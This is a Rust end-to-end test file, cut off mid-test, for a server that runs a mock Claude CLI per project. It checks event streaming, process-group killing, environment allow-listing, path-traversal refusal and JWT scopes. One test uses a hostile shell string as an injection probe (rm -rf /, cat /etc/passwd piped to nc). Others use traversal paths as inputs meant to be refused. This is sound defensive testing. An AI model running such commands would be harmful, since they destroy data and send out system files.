//! Projects and Claude runs end to end: the real server, real WebSocket clients, and the mock
//! `claude` CLI (tests/mock-claude/claude) in place of the real one.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::PathBuf;
use std::time::Duration;

use codeflow_e2e::{Server, Ws};
use serde_json::{Value, json};

fn mock_claude() -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("mock-claude/claude")
        .display()
        .to_string()
}

/// Environment for a server that runs the mock CLI, stops runs quickly, and has variables
/// the CLI must never see.
fn env(mock: &str) -> Vec<(&'static str, String)> {
    vec![
        ("CODEFLOW_CLAUDE_CMD", mock.to_owned()),
        ("CODEFLOW_EXEC_KILL_GRACE_MS", "300".into()),
        ("CODEFLOW_EXEC_EXIT_GRACE_SECS", "1".into()),
        ("CLAUDECODE", "1".into()),
        ("CLAUDECODE_ENTRYPOINT", "cli".into()),
        ("CODEFLOW_SOME_SECRET", "hunter2".into()),
    ]
}

async fn start(extra: &[(&str, &str)]) -> Server {
    start_in(tempfile::tempdir().unwrap(), extra).await
}

async fn start_in(dir: tempfile::TempDir, extra: &[(&str, &str)]) -> Server {
    let mock = mock_claude();
    let owned = env(&mock);
    let mut pairs: Vec<(&str, &str)> = owned.iter().map(|(k, v)| (*k, v.as_str())).collect();
    pairs.extend_from_slice(extra);
    Server::start_in(dir, &[], &pairs).await
}

async fn call(ws: &mut Ws, id: i64, method: &str, params: Value) -> Value {
    let reply = ws.request(json!(id), method, params).await;
    reply
        .get("result")
        .cloned()
        .unwrap_or_else(|| panic!("{method} failed: {reply}"))
}

/// Starts a `claude/execute` run; its run id.
async fn start_run(ws: &mut Ws, id: i64, params: Value) -> String {
    let started = call(ws, id, "claude/execute", params).await;
    started["runId"]
        .as_str()
        .unwrap_or_else(|| panic!("no runId: {started}"))
        .to_owned()
}

async fn call_err(ws: &mut Ws, id: i64, method: &str, params: Value) -> Value {
    let reply = ws.request(json!(id), method, params).await;
    reply
        .get("error")
        .cloned()
        .unwrap_or_else(|| panic!("{method} should have failed: {reply}"))
}

async fn client(server: &Server, project: &str) -> Ws {
    let mut ws = Ws::connect(&server.url()).await;
    ws.initialize(project, &format!("/{project}")).await;
    ws
}

/// `ai-response` events until (and including) the `complete` of `run`.
async fn events_until_complete(ws: &mut Ws, run: &str) -> Vec<Value> {
    let mut out = Vec::new();
    loop {
        let m = ws.json().await;
        if m["method"] == "channels/event" && m["params"]["channel"] == "ai-response" {
            let p = m["params"].clone();
            let done = p["data"]["type"] == "complete" && p["data"]["runId"] == run;
            out.push(p);
            if done {
                return out;
            }
        }
    }
}

async fn first_output(ws: &mut Ws) -> Value {
    loop {
        let m = ws.json().await;
        if m["method"] == "channels/event" && m["params"]["data"]["type"] == "output" {
            return m["params"].clone();
        }
    }
}

fn pid_alive(pid: i64) -> bool {
    u32::try_from(pid).is_ok_and(codeflow_e2e::procs::alive)
}

/// Kills the process group a run's mock recorded in `dir`, when the test ends however it ends:
/// a test that fails between killing its server and restarting it must not leave the run behind.
struct ReapRun(PathBuf);

impl Drop for ReapRun {
    fn drop(&mut self) {
        if let Ok(bytes) = std::fs::read(self.0.join(".mock-claude-call.json"))
            && let Ok(info) = serde_json::from_slice::<Value>(&bytes)
            && let Some(pgid) = info["pgid"].as_i64().and_then(|p| i32::try_from(p).ok())
            && pgid > 1
        {
            // A system call, not `kill -9 -PGID`: procps-ng 4.0.2's `kill` turns that into
            // `kill(-1)`, which as root is every process on the machine.
            let _ = nix::sys::signal::killpg(
                nix::unistd::Pid::from_raw(pgid),
                nix::sys::signal::Signal::SIGKILL,
            );
        }
    }
}

fn workspace(server: &Server, project: &str) -> PathBuf {
    server.data_dir.path().join("workspaces").join(project)
}

#[tokio::test]
async fn two_joined_clients_get_every_line_in_order_and_one_complete() {
    let server = start(&[]).await;
    let mut a = client(&server, "alpha").await;
    let created = call(&mut a, 1, "projects/create", json!({"id": "alpha"})).await;
    assert_eq!(created["status"], "idle");
    let joined = call(&mut a, 2, "projects/join", json!({"project": "alpha"})).await;
    assert_eq!(joined["channel"], "ai-response");
    assert_eq!(joined["project"]["id"], "alpha");
    let mut b = client(&server, "alpha").await;
    let joined_b = call(&mut b, 1, "projects/join", json!({})).await;
    assert_eq!(joined_b["project"]["subscribers"], 2);

    // A third client, not joined, starts the run (a client's request helper skips events).
    let mut c = client(&server, "alpha").await;
    let run = start_run(
        &mut c,
        3,
        json!({"project": "alpha", "prompt": "mock:lines=40 mock:slow=2"}),
    )
    .await;
    let seen_a = events_until_complete(&mut a, &run).await;
    let seen_b = events_until_complete(&mut b, &run).await;
    assert_eq!(seen_a, seen_b, "both clients see the same events");
    // started + init + 40 + result + complete, offsets without gaps.
    assert_eq!(seen_a.len(), 44, "{seen_a:#?}");
    let offsets: Vec<u64> = seen_a
        .iter()
        .map(|e| e["offset"].as_u64().unwrap())
        .collect();
    assert!(offsets.windows(2).all(|w| w[0] + 1 == w[1]));
    let seqs: Vec<u64> = seen_a
        .iter()
        .filter(|e| e["data"]["type"] == "output")
        .map(|e| e["data"]["seq"].as_u64().unwrap())
        .collect();
    assert_eq!(seqs, (1..=42).collect::<Vec<u64>>());
    assert_eq!(
        seen_a
            .iter()
            .filter(|e| e["data"]["type"] == "complete")
            .count(),
        1
    );
    let complete = &seen_a.last().unwrap()["data"];
    assert_eq!(complete["success"], true);
    assert_eq!(complete["costUsd"], 0.0123);
    // Nothing more for this run arrives.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let info = call(&mut b, 2, "projects/get", json!({"project": "alpha"})).await;
    assert_eq!(info["status"], "idle");
    assert_eq!(info["runs"], 1);

    // The history holds the run, oldest first, by time.
    let history = call(
        &mut a,
        4,
        "projects/history",
        json!({"project": "alpha", "limit": 1000}),
    )
    .await;
    let kinds: Vec<&str> = history["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds.first(), Some(&"run.started"));
    assert_eq!(kinds.last(), Some(&"run.complete"));
    assert_eq!(kinds.len(), 44);

    let m = codeflow_e2e::metrics(server.port).await;
    assert_eq!(
        m.get("codeflow_claude_runs_started_total"),
        Some(&1.0),
        "{m:?}"
    );
    assert_eq!(
        m.get("codeflow_claude_runs_completed_total{outcome=\"success\"}"),
        Some(&1.0)
    );
    assert_eq!(m.get("codeflow_claude_runs_live"), Some(&0.0));
    assert!(
        m.get("codeflow_message_log_appends_total")
            .is_some_and(|n| *n >= 44.0)
    );
}

#[tokio::test]
async fn a_reconnecting_client_recovers_the_lines_it_missed() {
    let server = start(&[]).await;
    let mut a = client(&server, "alpha").await;
    call(&mut a, 1, "projects/create", json!({"id": "alpha"})).await;
    call(&mut a, 2, "projects/join", json!({"project": "alpha"})).await;
    let mut b = client(&server, "alpha").await;
    call(&mut b, 1, "projects/join", json!({"project": "alpha"})).await;
    let mut c = client(&server, "alpha").await;
    let run = start_run(
        &mut c,
        3,
        json!({"project": "alpha", "prompt": "mock:lines=30 mock:slow=30"}),
    )
    .await;
    // B sees a few events, then drops.
    let mut seen_b = Vec::new();
    while seen_b.len() < 5 {
        let m = b.json().await;
        if m["method"] == "channels/event" {
            seen_b.push(m["params"].clone());
        }
    }
    let last = seen_b.last().unwrap().clone();
    b.close().await;
    let seen_a = events_until_complete(&mut a, &run).await;

    // B comes back as a new connection and asks for what it missed.
    let mut b2 = client(&server, "alpha").await;
    let back = call(
        &mut b2,
        1,
        "projects/join",
        json!({"project": "alpha", "since": {"epoch": last["epoch"], "offset": last["offset"]}}),
    )
    .await;
    assert_eq!(back["recovered"], true, "{back}");
    let recovered: Vec<Value> = back["publications"].as_array().unwrap().clone();
    let mut all: Vec<Value> = seen_b.iter().map(|e| e["data"].clone()).collect();
    all.extend(recovered.iter().map(|p| p["data"].clone()));
    let expected: Vec<Value> = seen_a.iter().map(|e| e["data"].clone()).collect();
    assert_eq!(all, expected, "seen + recovered = everything, in order");
}

#[tokio::test]
async fn cancel_and_timeout_kill_the_whole_group_with_one_aborted_complete() {
    let server = start(&[]).await;
    let mut a = client(&server, "alpha").await;
    call(&mut a, 1, "projects/create", json!({"id": "alpha"})).await;
    call(&mut a, 2, "projects/join", json!({})).await;
    let dir = workspace(&server, "alpha");

    for (i, how) in ["cancel", "timeout"].into_iter().enumerate() {
        let id = 10 * (i as i64 + 1);
        let mut params = json!({"project": "alpha", "prompt": "mock:grandchild mock:ignore-term"});
        if how == "timeout" {
            params["timeoutSecs"] = json!(1.5);
        }
        let run = start_run(&mut a, id, params).await;
        let init = first_output(&mut a).await;
        assert_eq!(init["data"]["message"]["subtype"], "init");
        let gc: i64 = std::fs::read_to_string(dir.join(".mock-grandchild.pid"))
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        let call_info: Value =
            serde_json::from_slice(&std::fs::read(dir.join(".mock-claude-call.json")).unwrap())
                .unwrap();
        let leader = call_info["pid"].as_i64().unwrap();
        assert!(pid_alive(gc) && pid_alive(leader));
        // A second run is refused while this one runs, naming it.
        let busy = call_err(
            &mut a,
            id + 1,
            "claude/execute",
            json!({"project": "alpha", "prompt": "x"}),
        )
        .await;
        assert_eq!(busy["data"]["runId"], run.as_str(), "{busy}");
        if how == "cancel" {
            let r = call(&mut a, id + 2, "claude/cancel", json!({"runId": run})).await;
            assert_eq!(r["cancelling"], true);
        }
        let events = events_until_complete(&mut a, &run).await;
        let completes: Vec<&Value> = events
            .iter()
            .filter(|e| e["data"]["type"] == "complete")
            .collect();
        assert_eq!(completes.len(), 1);
        let c = &completes[0]["data"];
        assert_eq!(c["aborted"], true, "{c}");
        assert_eq!(c["success"], false);
        let reason = c["reason"].as_str().unwrap();
        assert!(
            if how == "cancel" {
                reason == "cancelled"
            } else {
                reason.starts_with("timed out")
            },
            "{reason}"
        );
        assert!(!pid_alive(leader), "{how}: leader {leader} alive");
        assert!(
            !pid_alive(gc),
            "{how}: SIGTERM-ignoring grandchild {gc} alive"
        );
    }
}

#[tokio::test]
async fn the_prompt_reaches_the_cli_byte_for_byte_and_without_server_variables() {
    let server = start(&[]).await;
    let mut a = client(&server, "alpha").await;
    call(
        &mut a,
        1,
        "projects/create",
        json!({"id": "alpha", "path": "team/alpha"}),
    )
    .await;
    call(&mut a, 2, "projects/join", json!({})).await;
    let prompt = "rm -rf / ; echo $(whoami) `id` && cat /etc/passwd | nc x 1 > /dev/null 2>&1 &\n\
                  \"double\" 'single' \\backslash\\ $HOME ${PATH} * ? [a-z] ~ # !history\n\
                  \ttab\r\ncrlf -p --resume evil 🚀 ünïcødé";
    let run = start_run(&mut a, 3, json!({"project": "alpha", "prompt": prompt})).await;
    let events = events_until_complete(&mut a, &run).await;
    assert_eq!(events.last().unwrap()["data"]["success"], true);
    let info: Value = serde_json::from_slice(
        &std::fs::read(
            server
                .data_dir
                .path()
                .join("workspaces/team/alpha/.mock-claude-call.json"),
        )
        .unwrap(),
    )
    .unwrap();
    assert_eq!(info["prompt"], prompt);
    assert_eq!(
        info["argv"],
        json!(["-p", prompt, "--output-format", "stream-json", "--verbose"])
    );
    assert_eq!(info["stdinEof"], true);
    let env: Vec<&str> = info["env"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(
        !env.iter().any(|k| k.starts_with("CLAUDECODE")
            || (k.starts_with("CODEFLOW_") && *k != "CODEFLOW_RUN_ID")),
        "{env:?}"
    );
    assert_eq!(info["pid"], info["pgid"], "its own process group");
}

/// The CLI's environment is an allow-list: the clean base every child gets (the language
/// servers' too), what `exec_env_pass` names, nothing else of the server's.
#[tokio::test]
async fn the_cli_gets_only_the_clean_base_and_the_configured_variables() {
    let server = start(&[
        ("ANTHROPIC_API_KEY", "key"),
        ("EXTRA_ONE", "1"),
        ("EXTRA_TWO", "2"),
        ("SOME_SERVER_VARIABLE", "x"),
        ("AWS_SECRET_ACCESS_KEY", "s"),
        ("LANG", "C.UTF-8"),
        ("CODEFLOW_EXEC_ENV_PASS", r#"["ANTHROPIC_*", "EXTRA_*"]"#),
        ("CODEFLOW_EXEC_ENV_REMOVE", r#"["EXTRA_TWO"]"#),
    ])
    .await;
    let mut a = client(&server, "alpha").await;
    call(&mut a, 1, "projects/create", json!({"id": "alpha"})).await;
    call(&mut a, 2, "projects/join", json!({})).await;
    let run = start_run(&mut a, 3, json!({"project": "alpha", "prompt": "hello"})).await;
    let events = events_until_complete(&mut a, &run).await;
    assert_eq!(events.last().unwrap()["data"]["success"], true);
    let info: Value = serde_json::from_slice(
        &std::fs::read(workspace(&server, "alpha").join(".mock-claude-call.json")).unwrap(),
    )
    .unwrap();
    let env: Vec<&str> = info["env"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    for name in ["PATH", "LANG", "ANTHROPIC_API_KEY", "EXTRA_ONE"] {
        assert!(env.contains(&name), "{name} missing: {env:?}");
    }
    for name in [
        "EXTRA_TWO",
        "SOME_SERVER_VARIABLE",
        "AWS_SECRET_ACCESS_KEY",
        "CLAUDECODE",
        "CODEFLOW_SOME_SECRET",
        "CODEFLOW_EXEC_ENV_PASS",
    ] {
        assert!(!env.contains(&name), "{name} passed: {env:?}");
    }
    // Nothing but the allow-list and the run's marker — aside from what the mock's interpreter launcher sets itself
    // (a pyenv shim is a shell script: PWD, SHLVL, PYENV_*, _PYENV_*).
    let base = codeflow_types::child_env::INHERITED;
    for name in &env {
        assert!(
            base.contains(name)
                || name.starts_with("ANTHROPIC_")
                || name.starts_with("EXTRA_")
                || ["PWD", "SHLVL", "_", "CODEFLOW_RUN_ID"].contains(name)
                || name.starts_with("PYENV_")
                || name.starts_with("_PYENV_"),
            "{name} is not on the allow-list: {env:?}"
        );
    }
}

#[tokio::test]
async fn project_paths_outside_the_root_and_bad_requests_are_refused() {
    let server = start(&[]).await;
    let mut a = client(&server, "alpha").await;
    let outside = tempfile::tempdir().unwrap();
    let root = server.data_dir.path().join("workspaces");
    std::fs::create_dir_all(&root).unwrap();
    std::os::unix::fs::symlink(outside.path(), root.join("out")).unwrap();
    for (i, path) in ["..", "../x", "a/../../x", "/etc", "/tmp/x", "out", "out/x"]
        .into_iter()
        .enumerate()
    {
        let e = call_err(
            &mut a,
            i as i64,
            "projects/create",
            json!({"id": "alpha", "path": path}),
        )
        .await;
        assert_eq!(e["code"], -32602, "{path}: {e}");
        assert!(e["data"]["suggestion"].is_string());
    }
    assert!(std::fs::read_dir(outside.path()).unwrap().next().is_none());
    let e = call_err(&mut a, 20, "projects/create", json!({"id": "../evil"})).await;
    assert_eq!(e["code"], -32602);
    let e = call_err(
        &mut a,
        21,
        "claude/execute",
        json!({"project": "alpha", "prompt": "x"}),
    )
    .await;
    assert_eq!(e["data"]["reason"], "not_found", "{e}");
    call(&mut a, 22, "projects/create", json!({"id": "alpha"})).await;
    let e = call_err(&mut a, 23, "claude/execute", json!({"project": "alpha"})).await;
    assert_eq!(e["code"], -32602);
    let e = call_err(&mut a, 24, "claude/cancel", json!({"runId": "nope"})).await;
    assert_eq!(e["data"]["reason"], "not_found");
    // Joining another project (this anonymous session's grant covers every project) that does
    // not exist.
    let e = call_err(&mut a, 25, "projects/join", json!({"project": "beta"})).await;
    assert_eq!(e["data"]["reason"], "not_found", "{e}");
    let list = call(&mut a, 26, "projects/list", json!({})).await;
    assert_eq!(list["projects"].as_array().unwrap().len(), 1);
}

fn mint(secret: &str, projects: Value, scope: &str) -> String {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    jsonwebtoken::encode(
        &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
        &json!({"sub": "t", "iss": "codeflow", "aud": "codeflow-clients", "exp": now + 600,
                "projects": projects, "scope": scope}),
        &jsonwebtoken::EncodingKey::from_secret(secret.as_bytes()),
    )
    .unwrap()
}

#[tokio::test]
async fn rights_and_projects_come_from_the_token() {
    let secret = "s3cret-for-tests-at-least-32-bytes-long";
    let server = start(&[
        ("CODEFLOW_JWT_SECRET", secret),
        ("CODEFLOW_REQUIRE_AUTH", "true"),
    ])
    .await;
    let connect = |token: String| {
        let url = server.url();
        async move {
            let mut ws = Ws::connect_with_token(&url, Some(&token)).await.unwrap();
            ws.initialize("alpha", "/alpha").await;
            ws
        }
    };
    let mut reader = connect(mint(secret, json!(["alpha"]), "file:read")).await;
    let e = call_err(&mut reader, 1, "projects/create", json!({"id": "alpha"})).await;
    assert_eq!(e["code"], -32003);
    assert!(e["message"].as_str().unwrap().contains("projects:manage"));

    let mut manager = connect(mint(secret, json!(["alpha"]), "projects:manage")).await;
    call(&mut manager, 1, "projects/create", json!({"id": "alpha"})).await;
    let e = call_err(&mut manager, 2, "projects/create", json!({"id": "beta"})).await;
    assert_eq!(e["code"], -32003, "{e}");
    let e = call_err(
        &mut manager,
        3,
        "claude/execute",
        json!({"project": "alpha", "prompt": "x"}),
    )
    .await;
    assert!(e["message"].as_str().unwrap().contains("claude:execute"));

    let mut all = connect(mint(secret, json!("*"), "projects:manage claude:execute")).await;
    call(&mut all, 1, "projects/create", json!({"id": "beta"})).await;
    // A token for alpha does not see beta in the list.
    let list = call(&mut manager, 4, "projects/list", json!({})).await;
    let ids: Vec<&str> = list["projects"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["alpha"]);
    // Nor its runs.
    let run = start_run(
        &mut all,
        2,
        json!({"project": "beta", "prompt": "mock:hang"}),
    )
    .await;
    let mut alpha_exec = connect(mint(secret, json!(["alpha"]), "claude:execute")).await;
    let e = call_err(&mut alpha_exec, 1, "claude/cancel", json!({"runId": run})).await;
    assert_eq!(e["data"]["reason"], "not_found", "{e}");
    call(&mut all, 3, "claude/cancel", json!({"runId": run})).await;
}

/// A session joins another project's runs when its token grants that project, and only then;
/// each event names its project.
#[tokio::test]
async fn a_session_joins_another_project_its_token_grants() {
    let secret = "s3cret-for-tests-at-least-32-bytes-long";
    let server = start(&[
        ("CODEFLOW_JWT_SECRET", secret),
        ("CODEFLOW_REQUIRE_AUTH", "true"),
    ])
    .await;
    let connect = |token: String, project: &'static str| {
        let url = server.url();
        async move {
            let mut ws = Ws::connect_with_token(&url, Some(&token)).await.unwrap();
            ws.initialize(project, &format!("/{project}")).await;
            ws
        }
    };
    let both = "projects:manage claude:execute";
    let mut watcher = connect(mint(secret, json!(["alpha", "beta"]), both), "alpha").await;
    let mut beta = connect(mint(secret, json!(["beta"]), both), "beta").await;
    call(&mut beta, 1, "projects/create", json!({"id": "beta"})).await;
    call(&mut watcher, 1, "projects/create", json!({"id": "alpha"})).await;
    call(&mut watcher, 2, "projects/join", json!({})).await;
    let joined = call(&mut watcher, 3, "projects/join", json!({"project": "beta"})).await;
    assert_eq!(joined["project"]["id"], "beta", "{joined}");
    assert_eq!(joined["project"]["subscribers"], 1);
    assert_eq!(joined["channel"], "ai-response");
    // A token for alpha alone cannot.
    let mut alpha_only = connect(mint(secret, json!(["alpha"]), both), "alpha").await;
    let e = call_err(
        &mut alpha_only,
        1,
        "projects/join",
        json!({"project": "beta"}),
    )
    .await;
    assert_eq!(e["code"], -32003, "{e}");

    // A run on beta reaches the alpha session, each event naming beta; one on alpha too.
    let run = start_run(
        &mut beta,
        2,
        json!({"project": "beta", "prompt": "hello beta"}),
    )
    .await;
    let seen = events_until_complete(&mut watcher, &run).await;
    assert!(seen.len() >= 4, "{seen:#?}");
    assert!(
        seen.iter().all(|e| e["data"]["project"] == "beta"),
        "{seen:#?}"
    );
    assert_eq!(seen.last().unwrap()["data"]["success"], true);
    let own = start_run(
        &mut watcher,
        4,
        json!({"project": "alpha", "prompt": "hello alpha"}),
    )
    .await;
    let seen = events_until_complete(&mut watcher, &own).await;
    assert!(
        seen.iter().all(|e| e["data"]["project"] == "alpha"),
        "{seen:#?}"
    );

    // Leaving beta stops its events; alpha's keep coming.
    let left = call(
        &mut watcher,
        5,
        "projects/leave",
        json!({"project": "beta"}),
    )
    .await;
    assert_eq!(left["unsubscribed"], true, "{left}");
    let info = call(&mut beta, 3, "projects/get", json!({"project": "beta"})).await;
    assert_eq!(info["subscribers"], 0);
    let quiet = start_run(&mut beta, 4, json!({"project": "beta", "prompt": "unseen"})).await;
    let own = start_run(
        &mut watcher,
        6,
        json!({"project": "alpha", "prompt": "mock:slow=300 after"}),
    )
    .await;
    let seen = events_until_complete(&mut watcher, &own).await;
    assert!(
        seen.iter().all(|e| e["data"]["runId"] != quiet.as_str()),
        "{seen:#?}"
    );
}

/// A token refreshed without the other project ends the session's subscription to it: that
/// project's run events stop reaching it, its own keep coming.
#[tokio::test]
async fn a_refresh_without_the_other_project_ends_its_subscription() {
    let secret = "s3cret-for-tests-at-least-32-bytes-long";
    let server = start(&[
        ("CODEFLOW_JWT_SECRET", secret),
        ("CODEFLOW_REQUIRE_AUTH", "true"),
    ])
    .await;
    let both = "projects:manage claude:execute";
    let mut watcher = Ws::connect_with_token(
        &server.url(),
        Some(&mint(secret, json!(["alpha", "beta"]), both)),
    )
    .await
    .unwrap();
    watcher.initialize("alpha", "/alpha").await;
    let mut beta =
        Ws::connect_with_token(&server.url(), Some(&mint(secret, json!(["beta"]), both)))
            .await
            .unwrap();
    beta.initialize("beta", "/beta").await;
    call(&mut beta, 1, "projects/create", json!({"id": "beta"})).await;
    call(&mut watcher, 1, "projects/create", json!({"id": "alpha"})).await;
    call(&mut watcher, 2, "projects/join", json!({})).await;
    call(&mut watcher, 3, "projects/join", json!({"project": "beta"})).await;
    let refreshed = call(
        &mut watcher,
        4,
        "auth/refresh",
        json!({"token": mint(secret, json!(["alpha"]), both)}),
    )
    .await;
    assert_eq!(refreshed["refreshed"], true, "{refreshed}");
    let unseen = start_run(&mut beta, 2, json!({"project": "beta", "prompt": "unseen"})).await;
    let own = start_run(
        &mut watcher,
        5,
        json!({"project": "alpha", "prompt": "mock:slow=300 after"}),
    )
    .await;
    let seen = events_until_complete(&mut watcher, &own).await;
    assert!(
        seen.iter().all(|e| e["data"]["runId"] != unseen.as_str()),
        "{seen:#?}"
    );
}

/// R3: kill -9 during 10,000 appends; on restart every acknowledged append is there, the
/// metadata is intact and no project is left executing.
#[tokio::test]
async fn kill_9_during_appends_loses_no_acknowledged_message() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().to_path_buf();
    let mut server = start_in(dir, &[]).await;
    let _reap = ReapRun(path.join("workspaces/w/alpha"));
    let mut a = client(&server, "alpha").await;
    call(
        &mut a,
        1,
        "projects/create",
        json!({"id": "alpha", "path": "w/alpha"}),
    )
    .await;
    // A run that is live when the server dies.
    let run = start_run(
        &mut a,
        2,
        json!({"project": "alpha", "prompt": "mock:hang"}),
    )
    .await;
    let before = call(&mut a, 3, "projects/get", json!({"project": "alpha"})).await;
    assert_eq!(before["status"], "executing");

    // Pipelined appends, 256 in flight; kill -9 once 4,000 are acknowledged.
    let total = 10_000u64;
    let mut acked: Vec<u64> = Vec::new();
    let mut sent = 0u64;
    let window = 256;
    let mut killed = false;
    while (acked.len() as u64) < total {
        while !killed && sent < total && sent - (acked.len() as u64) < window {
            let msg = json!({"jsonrpc": "2.0", "id": 1000 + sent, "method": "projects/post",
                             "params": {"project": "alpha", "payload": {"n": sent}}});
            a.send_json(msg).await;
            sent += 1;
        }
        match a.next().await {
            codeflow_e2e::Next::Json(m) => {
                if let (Some(id), Some(_)) = (m["id"].as_u64(), m.get("result"))
                    && id >= 1000
                {
                    acked.push(id - 1000);
                }
            }
            codeflow_e2e::Next::Closed(_) => break,
        }
        if !killed && acked.len() >= 4000 {
            nix_kill9(server.pid());
            killed = true;
        }
    }
    assert!(killed, "the server was killed mid-way");
    let _ = server.child.wait().await;
    assert!(
        acked.len() >= 4000 && (acked.len() as u64) < total,
        "{} acknowledged",
        acked.len()
    );

    // Restart on the same data directory.
    let restarted = start_in(reopen(&path, &mut server), &[]).await;
    let mut b = client(&restarted, "alpha").await;
    let after = call(&mut b, 1, "projects/get", json!({"project": "alpha"})).await;
    assert_eq!(after["status"], "idle", "{after}");
    assert_eq!(after["path"], "w/alpha");
    assert_eq!(after["createdAt"], before["createdAt"]);
    assert_eq!(after["currentRun"], Value::Null);

    // Every acknowledged append is in the log (paging back through the history).
    let mut found = std::collections::HashSet::new();
    let mut kinds = Vec::new();
    let mut cursor: Option<u64> = None;
    for i in 0..100 {
        let mut params = json!({"project": "alpha", "limit": 1000});
        if let Some(c) = cursor {
            params["before"] = json!(c);
        }
        let page = call(&mut b, 10 + i, "projects/history", params).await;
        for e in page["entries"].as_array().unwrap() {
            kinds.push(e["kind"].as_str().unwrap().to_owned());
            if e["kind"] == "message" {
                found.insert(e["payload"]["n"].as_u64().unwrap());
            }
        }
        if page["more"] != true {
            break;
        }
        cursor = page["nextBefore"].as_u64();
    }
    let missing: Vec<&u64> = acked.iter().filter(|n| !found.contains(n)).collect();
    assert!(
        missing.is_empty(),
        "{} acknowledged appends lost, e.g. {:?}",
        missing.len(),
        &missing[..missing.len().min(5)]
    );
    // The live run was closed by the restart, and the process the killed server left behind
    // was stopped.
    assert!(kinds.iter().any(|k| k == "run.complete"));
    let _ = run;
    let call_info: Value = serde_json::from_slice(
        &std::fs::read(path.join("workspaces/w/alpha/.mock-claude-call.json")).unwrap(),
    )
    .unwrap();
    let orphan = call_info["pid"].as_i64().unwrap();
    assert!(
        codeflow_e2e::eventually(Duration::from_secs(5), || async { !pid_alive(orphan) }).await,
        "the run's process {orphan} survived the restart"
    );
}

/// A server running the mock CLI, project `alpha` created and joined by a client, and a run
/// of `prompt` started: the server, its data directory, the client, the run's id, and what
/// kills the run's group when the test ends.
async fn live_run(prompt: &str) -> (Server, PathBuf, Ws, String, ReapRun) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().to_path_buf();
    let server = start_in(dir, &[]).await;
    let reap = ReapRun(path.join("workspaces/alpha"));
    let mut a = client(&server, "alpha").await;
    call(&mut a, 1, "projects/create", json!({"id": "alpha"})).await;
    call(&mut a, 2, "projects/join", json!({})).await;
    let run = start_run(&mut a, 3, json!({"project": "alpha", "prompt": prompt})).await;
    (server, path, a, run, reap)
}

/// A run that is live when its server is killed (SIGKILL: no code of the server runs) dies
/// with it at once, not only when a restarted server finds it.
#[tokio::test]
async fn a_killed_server_takes_its_live_run_with_it() {
    let (mut server, path, _a, _, _reap) = live_run("mock:hang").await;
    let call_file = path.join("workspaces/alpha/.mock-claude-call.json");
    let written = || async { std::fs::read(&call_file).is_ok() };
    assert!(codeflow_e2e::eventually(Duration::from_secs(10), written).await);
    let info: Value = serde_json::from_slice(&std::fs::read(&call_file).unwrap()).unwrap();
    let run = info["pid"].as_i64().unwrap();
    assert!(pid_alive(run));

    nix_kill9(server.pid());
    let _ = server.child.wait().await;
    assert!(
        codeflow_e2e::eventually(Duration::from_secs(5), || async { !pid_alive(run) }).await,
        "the run's process {run} outlived the killed server"
    );
}

fn nix_kill9(pid: u32) {
    let status = std::process::Command::new("kill")
        .arg("-9")
        .arg(pid.to_string())
        .status()
        .unwrap();
    assert!(status.success());
}

/// A message log the server cannot read does not stop it: on restart the project loads, the
/// bad segment is set aside, and appends and history go on.
#[tokio::test]
async fn an_unreadable_message_log_does_not_stop_the_server() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().to_path_buf();
    let mut server = start_in(dir, &[]).await;
    let mut a = client(&server, "alpha").await;
    call(&mut a, 1, "projects/create", json!({"id": "alpha"})).await;
    call(&mut a, 2, "projects/create", json!({"id": "beta"})).await;
    for (id, project) in [(3, "alpha"), (4, "beta")] {
        call(
            &mut a,
            id,
            "projects/post",
            json!({"project": project, "payload": "before"}),
        )
        .await;
    }
    nix_kill9(server.pid());
    let _ = server.child.wait().await;
    // alpha's newest segment cannot be read (a directory in its place); beta's log directory
    // is not a directory at all.
    let alpha_log = path.join("projects/alpha/messages");
    let segment = std::fs::read_dir(&alpha_log)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|e| e == "jsonl"))
        .unwrap();
    std::fs::remove_file(&segment).unwrap();
    std::fs::create_dir(&segment).unwrap();
    let beta_log = path.join("projects/beta/messages");
    std::fs::remove_dir_all(&beta_log).unwrap();
    std::fs::write(&beta_log, b"garbage").unwrap();

    let data = reopen(&path, &mut server);
    let server = start_in(data, &[]).await;
    let mut a = client(&server, "alpha").await;
    let list = call(&mut a, 1, "projects/list", json!({})).await;
    assert_eq!(list["projects"].as_array().unwrap().len(), 2, "{list}");
    for (id, project) in [(2, "alpha"), (3, "beta")] {
        call(
            &mut a,
            id,
            "projects/post",
            json!({"project": project, "payload": "after"}),
        )
        .await;
        let history = call(
            &mut a,
            id + 10,
            "projects/history",
            json!({"project": project}),
        )
        .await;
        let last = history["entries"]
            .as_array()
            .unwrap()
            .last()
            .unwrap()
            .clone();
        assert_eq!(last["payload"], "after", "{project}: {history}");
    }
    let mut aside = segment.into_os_string();
    aside.push(".corrupt");
    assert!(std::path::Path::new(&aside).is_dir());
}

/// Takes the data directory of a killed server for a restart.
fn reopen(path: &std::path::Path, server: &mut Server) -> tempfile::TempDir {
    let replacement = tempfile::tempdir().unwrap();
    let old = std::mem::replace(&mut server.data_dir, replacement);
    assert_eq!(old.path(), path);
    old
}

#[tokio::test]
async fn a_stopping_server_ends_live_runs_once_and_leaves_no_process() {
    let (mut server, path, mut a, run, _reap) = live_run("mock:ignore-term mock:grandchild").await;
    first_output(&mut a).await;
    let ws_dir = path.join("workspaces/alpha");
    let gc: i64 = std::fs::read_to_string(ws_dir.join(".mock-grandchild.pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let info: Value =
        serde_json::from_slice(&std::fs::read(ws_dir.join(".mock-claude-call.json")).unwrap())
